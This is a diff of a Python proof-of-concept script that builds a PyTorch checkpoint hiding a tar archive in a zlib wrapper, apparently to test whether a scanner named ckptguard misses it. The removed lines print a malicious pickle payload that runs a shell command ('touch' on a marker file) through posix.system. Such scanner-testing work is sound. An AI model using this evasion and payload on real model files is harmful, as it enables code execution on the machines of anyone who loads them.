@@ -6,9 +6,7 @@ ckptguard sniffs the zlib wrapper before tar (Opener::Open returns after OpenWra
 the decompressed pickle; torch.load tries tarfile on any non-zip file first.
 Usage: tar_in_zlib.py OUT MARKER"""
 import sys, struct, zlib
-from tarblocks import header as tar_header
-def payload(marker):
-    return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
+from tarblocks import header as tar_header, payload
 def build(marker):
     pay = payload(marker)
     m1 = tar_header(b'storages', len(pay)) + pay
